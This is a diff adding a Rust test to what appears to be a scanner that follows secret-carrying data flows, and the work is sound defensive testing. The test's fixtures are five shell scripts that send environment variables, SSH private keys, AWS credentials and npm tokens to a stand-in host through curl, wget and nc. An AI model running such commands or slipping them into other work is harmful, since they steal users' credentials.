@@ -313,3 +313,18 @@ fn an_es_module_imported_from_another_file_is_followed() {
     let src = out[0].finding.source.as_ref().expect("source");
     assert_eq!((src.file.as_deref(), src.line), (Some("src/lib/collect.ts"), 2));
 }
+
+#[test]
+fn shell_pipes_redirects_loops_and_upload_options_carry_secrets() {
+    let cases: &[&str] = &[
+        "#!/bin/sh\nenv | curl -s -X POST --data-binary @- https://h.invalid/e\n",
+        "#!/bin/sh\nprintenv > /tmp/e\ncurl -s -F f=@/tmp/e https://h.invalid/e\n",
+        "#!/bin/bash\nfor f in ~/.ssh/id_*; do\n  curl -s -F \"k=@$f\" https://h.invalid/k\ndone\n",
+        "#!/bin/sh\nwget -q --post-file=$HOME/.aws/credentials http://h.invalid/a\n",
+        "#!/bin/sh\nD=$(cat ~/.npmrc | base64)\nsend() { nc h.invalid 9 <<< \"$1\"; }\nsend \"$D\"\n",
+    ];
+    for (i, sh) in cases.iter().enumerate() {
+        let out = flows(&[("s.sh", sh)]);
+        assert_eq!(out.len(), 1, "case {i}: {out:?}");
+    }
+}
